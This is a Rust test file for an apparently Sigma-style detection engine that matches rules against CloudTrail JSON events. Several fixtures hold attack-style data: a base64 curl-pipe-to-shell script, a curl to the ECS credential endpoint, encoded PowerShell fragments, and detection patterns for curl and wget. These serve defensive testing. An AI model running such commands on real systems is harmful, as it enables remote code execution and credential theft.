//! Value semantics, every modifier, keywords and conditions: one table, one helper
//! ([`verdict`]): an inline `detection` body, an inline record, the expected verdict.

use crate::common::verdict;

/// (what is checked, detection body, record, expected)
type Case = (&'static str, &'static str, &'static str, bool);

const VALUES: &[Case] = &[
    (
        "equality ignores case",
        "sel:\n    eventName: stoplogging\ncondition: sel",
        r#"{"eventName":"StopLogging"}"#,
        true,
    ),
    (
        "equality is whole-value",
        "sel:\n    eventName: Stop\ncondition: sel",
        r#"{"eventName":"StopLogging"}"#,
        false,
    ),
    (
        "cased refuses other case",
        "sel:\n    eventName|cased: stoplogging\ncondition: sel",
        r#"{"eventName":"StopLogging"}"#,
        false,
    ),
    (
        "cased accepts same case",
        "sel:\n    eventName|cased: StopLogging\ncondition: sel",
        r#"{"eventName":"StopLogging"}"#,
        true,
    ),
    (
        "star suffix",
        "sel:\n    eventName: 'Stop*'\ncondition: sel",
        r#"{"eventName":"StopLogging"}"#,
        true,
    ),
    (
        "star prefix",
        "sel:\n    eventName: '*logging'\ncondition: sel",
        r#"{"eventName":"StopLogging"}"#,
        true,
    ),
    (
        "star inside",
        "sel:\n    eventName: 'S*L*g'\ncondition: sel",
        r#"{"eventName":"StopLogging"}"#,
        true,
    ),
    (
        "question mark is one character",
        "sel:\n    eventName: 'S?opLogging'\ncondition: sel",
        r#"{"eventName":"StopLogging"}"#,
        true,
    ),
    (
        "question mark is not zero",
        "sel:\n    eventName: 'S?topLogging'\ncondition: sel",
        r#"{"eventName":"StopLogging"}"#,
        false,
    ),
    (
        "escaped star is literal",
        "sel:\n    userAgent: 'a\\*b'\ncondition: sel",
        r#"{"userAgent":"a*b"}"#,
        true,
    ),
    (
        "escaped star is not a wildcard",
        "sel:\n    userAgent: 'a\\*b'\ncondition: sel",
        r#"{"userAgent":"axxb"}"#,
        false,
    ),
    (
        "backslash before other text is literal",
        "sel:\n    userAgent: 'C:\\Tools\\x'\ncondition: sel",
        r#"{"userAgent":"C:\\Tools\\x"}"#,
        true,
    ),
    (
        "list is OR",
        "sel:\n    eventName:\n        - DeleteTrail\n        - StopLogging\ncondition: sel",
        r#"{"eventName":"StopLogging"}"#,
        true,
    ),
    (
        "list is OR (none)",
        "sel:\n    eventName: [DeleteTrail, UpdateTrail]\ncondition: sel",
        r#"{"eventName":"StopLogging"}"#,
        false,
    ),
    (
        "map is AND",
        "sel:\n    eventName: StopLogging\n    awsRegion: us-east-1\ncondition: sel",
        r#"{"eventName":"StopLogging","awsRegion":"eu-west-1"}"#,
        false,
    ),
    (
        "list of maps is OR",
        "sel:\n    - eventName: DeleteTrail\n    - awsRegion: eu-west-1\ncondition: sel",
        r#"{"eventName":"StopLogging","awsRegion":"eu-west-1"}"#,
        true,
    ),
    (
        "missing field never equals",
        "sel:\n    errorCode: AccessDenied\ncondition: sel",
        r#"{"eventName":"x"}"#,
        false,
    ),
    (
        "null: missing",
        "sel:\n    errorCode: null\ncondition: sel",
        r#"{"eventName":"x"}"#,
        true,
    ),
    (
        "null: JSON null",
        "sel:\n    errorCode: null\ncondition: sel",
        r#"{"errorCode":null}"#,
        true,
    ),
    (
        "null: a value",
        "sel:\n    errorCode: null\ncondition: sel",
        r#"{"errorCode":"AccessDenied"}"#,
        false,
    ),
    (
        "null: an object is not null",
        "sel:\n    requestParameters: null\ncondition: sel",
        r#"{"requestParameters":{}}"#,
        false,
    ),
    (
        "null in a list (missing)",
        "sel:\n    errorCode: [null, AccessDenied]\ncondition: sel",
        r#"{"eventName":"x"}"#,
        false,
    ),
    (
        "null in a list (JSON null)",
        "sel:\n    errorCode: [null, AccessDenied]\ncondition: sel",
        r#"{"errorCode":null}"#,
        true,
    ),
    (
        "null in a list (other value)",
        "sel:\n    errorCode: [null, AccessDenied]\ncondition: sel",
        r#"{"errorCode":"AccessDenied"}"#,
        true,
    ),
    (
        "quoted 'null' is a string",
        "sel:\n    errorCode: 'null'\ncondition: sel",
        r#"{"errorCode":null}"#,
        false,
    ),
    (
        "empty string",
        "sel:\n    errorCode: ''\ncondition: sel",
        r#"{"errorCode":""}"#,
        true,
    ),
    (
        "empty string is not missing",
        "sel:\n    errorCode: ''\ncondition: sel",
        r#"{"eventName":"x"}"#,
        false,
    ),
    (
        "star matches the empty string",
        "sel:\n    errorMessage|contains: '*'\ncondition: sel",
        r#"{"errorMessage":""}"#,
        true,
    ),
    (
        "star does not match missing",
        "sel:\n    errorMessage|contains: '*'\ncondition: sel",
        r#"{"eventName":"x"}"#,
        false,
    ),
    (
        "star does not match null",
        "sel:\n    errorMessage|contains: '*'\ncondition: sel",
        r#"{"errorMessage":null}"#,
        false,
    ),
    (
        "numbers compare as text",
        "sel:\n    requestParameters.maxResults: 100\ncondition: sel",
        r#"{"requestParameters":{"maxResults":100}}"#,
        true,
    ),
    (
        "number value, string field",
        "sel:\n    requestParameters.maxResults: 100\ncondition: sel",
        r#"{"requestParameters":{"maxResults":"100"}}"#,
        true,
    ),
    (
        "YAML keeps 1.10 as written",
        "sel:\n    eventVersion: 1.10\ncondition: sel",
        r#"{"eventVersion":"1.10"}"#,
        true,
    ),
    (
        "'false' matches JSON false",
        "sel:\n    requestParameters.enable: 'false'\ncondition: sel",
        r#"{"requestParameters":{"enable":false}}"#,
        true,
    ),
    (
        "plain true matches a typed boolean",
        "sel:\n    readOnly: true\ncondition: sel",
        r#"{"readOnly":true}"#,
        true,
    ),
    (
        "'true' does not match false",
        "sel:\n    responseElements.publiclyAccessible: 'true'\ncondition: sel",
        r#"{"responseElements":{"publiclyAccessible":false}}"#,
        false,
    ),
    (
        "unicode case folding",
        "sel:\n    userAgent|contains: 'ÉTÉ'\ncondition: sel",
        r#"{"userAgent":"un été chaud"}"#,
        true,
    ),
];

const MODIFIERS: &[Case] = &[
    (
        "contains",
        "sel:\n    userAgent|contains: boto3\ncondition: sel",
        r#"{"userAgent":"Boto3/1.26 Python/3.11"}"#,
        true,
    ),
    (
        "startswith",
        "sel:\n    userAgent|startswith: boto3\ncondition: sel",
        r#"{"userAgent":"Boto3/1.26"}"#,
        true,
    ),
    (
        "startswith (not)",
        "sel:\n    userAgent|startswith: python\ncondition: sel",
        r#"{"userAgent":"Boto3/1.26 Python/3.11"}"#,
        false,
    ),
    (
        "endswith",
        "sel:\n    userIdentity.arn|endswith: ':user/mallory'\ncondition: sel",
        r#"{"userIdentity":{"arn":"arn:aws:iam::1:user/Mallory"}}"#,
        true,
    ),
    (
        "contains with inner wildcard",
        "sel:\n    userAgent|contains: 'aws-cli*linux'\ncondition: sel",
        r#"{"userAgent":"x aws-cli/2.15 Python Linux/6 y"}"#,
        true,
    ),
    (
        "contains|all (all there)",
        "sel:\n    userAgent|contains|all: [aws-cli, linux]\ncondition: sel",
        r#"{"userAgent":"aws-cli/2.15 Linux/6"}"#,
        true,
    ),
    (
        "contains|all (one missing)",
        "sel:\n    userAgent|contains|all: [aws-cli, windows]\ncondition: sel",
        r#"{"userAgent":"aws-cli/2.15 Linux/6"}"#,
        false,
    ),
    (
        "re is a search",
        "sel:\n    userIdentity.arn|re: ':assumed-role/aws:'\ncondition: sel",
        r#"{"userIdentity":{"arn":"arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1"}}"#,
        true,
    ),
    (
        "re is case-sensitive",
        "sel:\n    userIdentity.arn|re: 'ASSUMED-ROLE'\ncondition: sel",
        r#"{"userIdentity":{"arn":"arn:aws:sts::1:assumed-role/x"}}"#,
        false,
    ),
    (
        "re|i",
        "sel:\n    userIdentity.arn|re|i: 'ASSUMED-ROLE'\ncondition: sel",
        r#"{"userIdentity":{"arn":"arn:aws:sts::1:assumed-role/x"}}"#,
        true,
    ),
    (
        "re without m: ^ is the start",
        "sel:\n    requestParameters.script|re: '^echo'\ncondition: sel",
        r##"{"requestParameters":{"script":"#!/bin/sh\necho hi"}}"##,
        false,
    ),
    (
        "re|m: ^ after a newline",
        "sel:\n    requestParameters.script|re|m: '^echo'\ncondition: sel",
        r##"{"requestParameters":{"script":"#!/bin/sh\necho hi"}}"##,
        true,
    ),
    (
        "re without s: . stops at newline",
        "sel:\n    requestParameters.script|re: 'sh.echo'\ncondition: sel",
        r##"{"requestParameters":{"script":"#!/bin/sh\necho hi"}}"##,
        false,
    ),
    (
        "re|s: . crosses newline",
        "sel:\n    requestParameters.script|re|s: 'sh.echo'\ncondition: sel",
        r##"{"requestParameters":{"script":"#!/bin/sh\necho hi"}}"##,
        true,
    ),
    (
        "re|all",
        "sel:\n    userAgent|re|all: ['^aws', 'linux$']\ncondition: sel",
        r#"{"userAgent":"aws-cli linux"}"#,
        true,
    ),
    (
        "cidr v4 in",
        "sel:\n    sourceIPAddress|cidr: 10.0.0.0/8\ncondition: sel",
        r#"{"sourceIPAddress":"10.20.30.40"}"#,
        true,
    ),
    (
        "cidr v4 out",
        "sel:\n    sourceIPAddress|cidr: 10.0.0.0/8\ncondition: sel",
        r#"{"sourceIPAddress":"11.0.0.1"}"#,
        false,
    ),
    (
        "cidr on a service name",
        "sel:\n    sourceIPAddress|cidr: 0.0.0.0/0\ncondition: sel",
        r#"{"sourceIPAddress":"AWS Internal"}"#,
        false,
    ),
    (
        "cidr v6",
        "sel:\n    sourceIPAddress|cidr: '2001:db8::/32'\ncondition: sel",
        r#"{"sourceIPAddress":"2001:db8:1::5"}"#,
        true,
    ),
    (
        "cidr list",
        "sel:\n    sourceIPAddress|cidr: [192.168.0.0/16, 172.16.0.0/12]\ncondition: sel",
        r#"{"sourceIPAddress":"172.20.1.1"}"#,
        true,
    ),
    (
        "cidr single address",
        "sel:\n    sourceIPAddress|cidr: 198.51.100.7\ncondition: sel",
        r#"{"sourceIPAddress":"198.51.100.7"}"#,
        true,
    ),
    (
        "base64 (whole value)",
        "sel:\n    requestParameters.userData|base64: 'curl http'\ncondition: sel",
        r#"{"requestParameters":{"userData":"Y3VybCBodHRw"}}"#,
        true,
    ),
    (
        "base64|contains",
        "sel:\n    requestParameters.userData|base64|contains: 'curl http'\ncondition: sel",
        r#"{"requestParameters":{"userData":"xxY3VybCBodHRwyy"}}"#,
        true,
    ),
    // "#!/bin/sh\ncurl http://x | sh" encoded: the value sits at offset 10.
    (
        "base64offset|contains",
        "sel:\n    requestParameters.userData|base64offset|contains: 'curl http'\ncondition: sel",
        r#"{"requestParameters":{"userData":"IyEvYmluL3NoCmN1cmwgaHR0cDovL3ggfCBzaA=="}}"#,
        true,
    ),
    (
        "base64offset|contains (absent)",
        "sel:\n    requestParameters.userData|base64offset|contains: 'wget'\ncondition: sel",
        r#"{"requestParameters":{"userData":"IyEvYmluL3NoCmN1cmwgaHR0cDovL3ggfCBzaA=="}}"#,
        false,
    ),
    // "x cmd /c" in UTF-16LE, base64.
    (
        "wide|base64offset|contains",
        "sel:\n    requestParameters.command|wide|base64offset|contains: 'cmd'\ncondition: sel",
        r#"{"requestParameters":{"command":"eAAgAGMAbQBkACAALwBjAA=="}}"#,
        true,
    ),
    (
        "windash: slash for dash",
        "sel:\n    requestParameters.command|windash|contains: ' -enc '\ncondition: sel",
        r#"{"requestParameters":{"command":"powershell /enc SQBFAFgA"}}"#,
        true,
    ),
    (
        "windash: en dash",
        "sel:\n    requestParameters.command|windash|contains: ' -enc '\ncondition: sel",
        r#"{"requestParameters":{"command":"powershell –enc SQBFAFgA"}}"#,
        true,
    ),
    (
        "windash: inner dashes stay",
        "sel:\n    requestParameters.command|windash|contains: 'x-y'\ncondition: sel",
        r#"{"requestParameters":{"command":"x/y"}}"#,
        false,
    ),
    (
        "exists true",
        "sel:\n    errorCode|exists: true\ncondition: sel",
        r#"{"errorCode":"AccessDenied"}"#,
        true,
    ),
    (
        "exists true, missing",
        "sel:\n    errorCode|exists: true\ncondition: sel",
        r#"{"eventName":"x"}"#,
        false,
    ),
    (
        "exists true, null counts",
        "sel:\n    errorCode|exists: true\ncondition: sel",
        r#"{"errorCode":null}"#,
        true,
    ),
    (
        "exists false",
        "sel:\n    errorCode|exists: false\ncondition: sel",
        r#"{"eventName":"x"}"#,
        true,
    ),
    (
        "exists on an empty array",
        "sel:\n    requestParameters.tagSet|exists: true\ncondition: sel",
        r#"{"requestParameters":{"tagSet":[]}}"#,
        true,
    ),
    (
        "exists on an unknown top-level field",
        "sel:\n    status|exists: true\ncondition: sel",
        r#"{"status":"success"}"#,
        true,
    ),
    (
        "gt",
        "sel:\n    requestParameters.durationSeconds|gt: 3600\ncondition: sel",
        r#"{"requestParameters":{"durationSeconds":43200}}"#,
        true,
    ),
    (
        "gt on a numeric string",
        "sel:\n    requestParameters.durationSeconds|gt: 3600\ncondition: sel",
        r#"{"requestParameters":{"durationSeconds":"7200"}}"#,
        true,
    ),
    (
        "gt (equal)",
        "sel:\n    requestParameters.durationSeconds|gt: 3600\ncondition: sel",
        r#"{"requestParameters":{"durationSeconds":3600}}"#,
        false,
    ),
    (
        "gte (equal)",
        "sel:\n    requestParameters.durationSeconds|gte: 3600\ncondition: sel",
        r#"{"requestParameters":{"durationSeconds":3600}}"#,
        true,
    ),
    (
        "lt",
        "sel:\n    requestParameters.minCount|lt: 2.5\ncondition: sel",
        r#"{"requestParameters":{"minCount":2}}"#,
        true,
    ),
    (
        "lte on text",
        "sel:\n    requestParameters.minCount|lte: 10\ncondition: sel",
        r#"{"requestParameters":{"minCount":"many"}}"#,
        false,
    ),
    (
        "neq differs",
        "sel:\n    awsRegion|neq: us-east-1\ncondition: sel",
        r#"{"awsRegion":"eu-west-1"}"#,
        true,
    ),
    (
        "neq equal",
        "sel:\n    awsRegion|neq: US-EAST-1\ncondition: sel",
        r#"{"awsRegion":"us-east-1"}"#,
        false,
    ),
    (
        "neq missing",
        "sel:\n    awsRegion|neq: us-east-1\ncondition: sel",
        r#"{"eventName":"x"}"#,
        false,
    ),
    (
        "neq list",
        "sel:\n    awsRegion|neq: [us-east-1, us-west-2]\ncondition: sel",
        r#"{"awsRegion":"us-west-2"}"#,
        false,
    ),
    (
        "neq null: present and not null",
        "sel:\n    errorCode|neq: null\ncondition: sel",
        r#"{"errorCode":"Denied"}"#,
        true,
    ),
    (
        "fieldref equal (ignoring case)",
        "sel:\n    userIdentity.userName|fieldref: requestParameters.userName\ncondition: sel",
        r#"{"userIdentity":{"userName":"Alice"},"requestParameters":{"userName":"alice"}}"#,
        true,
    ),
    (
        "fieldref different",
        "sel:\n    userIdentity.userName|fieldref: requestParameters.userName\ncondition: sel",
        r#"{"userIdentity":{"userName":"alice"},"requestParameters":{"userName":"bob"}}"#,
        false,
    ),
    (
        "fieldref with the other field missing",
        "sel:\n    userIdentity.userName|fieldref: requestParameters.userName\ncondition: sel",
        r#"{"userIdentity":{"userName":"alice"}}"#,
        false,
    ),
    (
        "fieldref|cased",
        "sel:\n    userIdentity.userName|fieldref|cased: requestParameters.userName\ncondition: sel",
        r#"{"userIdentity":{"userName":"Alice"},"requestParameters":{"userName":"alice"}}"#,
        false,
    ),
    (
        "fieldref|endswith",
        "sel:\n    userIdentity.arn|fieldref|endswith: requestParameters.userName\ncondition: sel",
        r#"{"userIdentity":{"arn":"arn:aws:iam::1:user/alice"},"requestParameters":{"userName":"alice"}}"#,
        true,
    ),
    (
        "fieldref|neq",
        "sel:\n    userIdentity.userName|fieldref|neq: requestParameters.userName\ncondition: sel",
        r#"{"userIdentity":{"userName":"alice"},"requestParameters":{"userName":"bob"}}"#,
        true,
    ),
    (
        "hour",
        "sel:\n    eventTime|hour: 9\ncondition: sel",
        r#"{"eventTime":"2024-05-01T09:30:00Z"}"#,
        true,
    ),
    (
        "hour|gte",
        "sel:\n    eventTime|hour|gte: 22\ncondition: sel",
        r#"{"eventTime":"2024-05-01T23:10:00Z"}"#,
        true,
    ),
    (
        "minute",
        "sel:\n    eventTime|minute: 30\ncondition: sel",
        r#"{"eventTime":"2024-05-01T09:30:00Z"}"#,
        true,
    ),
    (
        "day",
        "sel:\n    eventTime|day: 1\ncondition: sel",
        r#"{"eventTime":"2024-05-01T09:30:00Z"}"#,
        true,
    ),
    (
        "week (ISO)",
        "sel:\n    eventTime|week: 18\ncondition: sel",
        r#"{"eventTime":"2024-05-01T09:30:00Z"}"#,
        true,
    ),
    (
        "month",
        "sel:\n    eventTime|month: 5\ncondition: sel",
        r#"{"eventTime":"2024-05-01T09:30:00Z"}"#,
        true,
    ),
    (
        "year|lt",
        "sel:\n    eventTime|year|lt: 2024\ncondition: sel",
        r#"{"eventTime":"2024-05-01T09:30:00Z"}"#,
        false,
    ),
];

const SHAPES: &[Case] = &[
    (
        "fan-out through arrays of objects into arrays",
        "sel:\n    requestParameters.containerDefinitions.command|contains: '169.254.170.2'\ncondition: sel",
        r#"{"requestParameters":{"containerDefinitions":[{"name":"a","command":["sh"]},{"command":["curl","http://169.254.170.2/v2/credentials"]}]}}"#,
        true,
    ),
    (
        "an array at the end yields its elements",
        "sel:\n    resources.ARN|endswith: ':trail/main'\ncondition: sel",
        r#"{"resources":[{"ARN":"arn:aws:s3:::b"},{"ARN":"arn:aws:cloudtrail:us-east-1:1:trail/main"}]}"#,
        true,
    ),
    (
        "a key with dots wins",
        "sel:\n    requestParameters.a.b: x\ncondition: sel",
        r#"{"requestParameters":{"a.b":"x","a":{"b":"y"}}}"#,
        true,
    ),
    (
        "a key with dots wins (the nested value loses)",
        "sel:\n    requestParameters.a.b: y\ncondition: sel",
        r#"{"requestParameters":{"a.b":"x","a":{"b":"y"}}}"#,
        false,
    ),
    (
        "object: a scalar inside",
        "sel:\n    requestParameters|contains: Suspended\ncondition: sel",
        r#"{"requestParameters":{"bucketName":"b","VersioningConfiguration":{"Status":"Suspended"}}}"#,
        true,
    ),
    (
        "object: its compact JSON text",
        "sel:\n    requestParameters|contains: '\"Status\":\"Suspended\"'\ncondition: sel",
        r#"{"requestParameters":{"VersioningConfiguration":{"Status" : "Suspended"}}}"#,
        true,
    ),
    (
        "object: a JSON document held in a string",
        "sel:\n    requestParameters|contains|all:\n        - '\"s3:GetObject\"'\n        - '\"Allow\"'\ncondition: sel",
        r#"{"requestParameters":{"policyDocument":"{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":[\"s3:GetObject\"]}]}"}}"#,
        true,
    ),
    (
        "object: equality with a scalar inside",
        "sel:\n    responseElements: Failure\ncondition: sel",
        r#"{"responseElements":{"status":"Failure"}}"#,
        true,
    ),
    (
        "array of scalars, any element",
        "sel:\n    requestParameters.layers|contains: 'layer:evil'\ncondition: sel",
        r#"{"requestParameters":{"layers":["arn:aws:lambda:us-east-1:1:layer:ok:1","arn:aws:lambda:us-east-1:2:layer:evil:3"]}}"#,
        true,
    ),
    (
        "keyword in any value",
        "keywords:\n    - mallory\ncondition: keywords",
        r#"{"userIdentity":{"arn":"arn:aws:iam::1:user/Mallory"}}"#,
        true,
    ),
    (
        "keyword in a number",
        "keywords:\n    - '8443'\ncondition: keywords",
        r#"{"requestParameters":{"port":8443}}"#,
        true,
    ),
    (
        "keyword never matches a key",
        "keywords:\n    - userIdentity\ncondition: keywords",
        r#"{"userIdentity":{"arn":"x"}}"#,
        false,
    ),
    (
        "keyword sees unescaped text",
        "keywords:\n    - 'say \"hi\"'\ncondition: keywords",
        r#"{"requestParameters":{"text":"they say \"hi\" twice"}}"#,
        true,
    ),
    (
        "keyword written with a \\u escape",
        "keywords:\n    - evil\ncondition: keywords",
        r#"{"eventTime":"2024-05-01T09:30:00Z","userAgent":"\u0065vil-tool"}"#,
        true,
    ),
    (
        "keyword wildcard",
        "keywords:\n    - 'evil*tool'\ncondition: keywords",
        r#"{"userAgent":"an evil-ish tool"}"#,
        true,
    ),
    (
        "keywords|all",
        "keywords:\n    '|all':\n        - alpha\n        - beta\ncondition: keywords",
        r#"{"userAgent":"alpha","eventName":"beta"}"#,
        true,
    ),
    (
        "keywords|all (one missing)",
        "keywords:\n    '|all':\n        - alpha\n        - gamma\ncondition: keywords",
        r#"{"userAgent":"alpha","eventName":"beta"}"#,
        false,
    ),
    (
        "keywords beside fields",
        "sel:\n    eventName: GetObject\nkw:\n    - secret.txt\ncondition: sel and kw",
        r#"{"eventName":"GetObject","requestParameters":{"key":"x/secret.txt"}}"#,
        true,
    ),
];

const CONDITIONS: &[Case] = &[
    (
        "and not",
        "sel:\n    eventName: StopLogging\nfilter:\n    userAgent|contains: terraform\ncondition: sel and not filter",
        r#"{"eventName":"StopLogging","userAgent":"Terraform/1.5"}"#,
        false,
    ),
    (
        "and not (filter does not hold)",
        "sel:\n    eventName: StopLogging\nfilter:\n    userAgent|contains: terraform\ncondition: sel and not filter",
        r#"{"eventName":"StopLogging","userAgent":"aws-cli"}"#,
        true,
    ),
    (
        "1 of pattern",
        "selection_a:\n    eventName: A\nselection_b:\n    eventName: StopLogging\ncondition: 1 of selection_*",
        r#"{"eventName":"StopLogging"}"#,
        true,
    ),
    (
        "all of pattern",
        "selection_a:\n    eventName: StopLogging\nselection_b:\n    awsRegion: us-east-1\ncondition: all of selection_*",
        r#"{"eventName":"StopLogging","awsRegion":"eu-west-1"}"#,
        false,
    ),
    (
        "all of them",
        "a:\n    eventName: StopLogging\nb:\n    awsRegion: us-east-1\ncondition: all of them",
        r#"{"eventName":"StopLogging","awsRegion":"us-east-1"}"#,
        true,
    ),
    (
        "1 of them skips _names",
        "a:\n    eventName: Nope\n_b:\n    awsRegion: us-east-1\ncondition: 1 of them",
        r#"{"eventName":"StopLogging","awsRegion":"us-east-1"}"#,
        false,
    ),
    (
        "or binds looser than and",
        "a:\n    eventName: StopLogging\nb:\n    awsRegion: x\nc:\n    awsRegion: y\ncondition: a or b and c",
        r#"{"eventName":"StopLogging","awsRegion":"z"}"#,
        true,
    ),
    (
        "parentheses",
        "a:\n    eventName: StopLogging\nb:\n    awsRegion: x\nc:\n    awsRegion: y\ncondition: (a or b) and c",
        r#"{"eventName":"StopLogging","awsRegion":"z"}"#,
        false,
    ),
    (
        "not binds tighter than and",
        "a:\n    eventName: StopLogging\nb:\n    awsRegion: x\ncondition: not b and a",
        r#"{"eventName":"StopLogging","awsRegion":"z"}"#,
        true,
    ),
    (
        "not 1 of",
        "sel:\n    eventName: StopLogging\nfilter_a:\n    awsRegion: x\nfilter_b:\n    awsRegion: z\ncondition: sel and not 1 of filter_*",
        r#"{"eventName":"StopLogging","awsRegion":"z"}"#,
        false,
    ),
    (
        "a list of conditions is OR",
        "a:\n    eventName: A\nb:\n    eventName: StopLogging\ncondition:\n    - a\n    - b",
        r#"{"eventName":"StopLogging"}"#,
        true,
    ),
];

fn run(table: &[Case]) {
    let mut failures = Vec::new();
    for (name, detection, event, expected) in table {
        let got = verdict(detection, event);
        if got != *expected {
            failures.push(format!(
                "{name}: expected {expected}, got {got}\n  detection: {detection:?}\n  event: {event}"
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} case(s) failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn values() {
    run(VALUES);
}

#[test]
fn modifiers() {
    run(MODIFIERS);
}

#[test]
fn shapes_and_keywords() {
    run(SHAPES);
}

#[test]
fn conditions() {
    run(CONDITIONS);
}
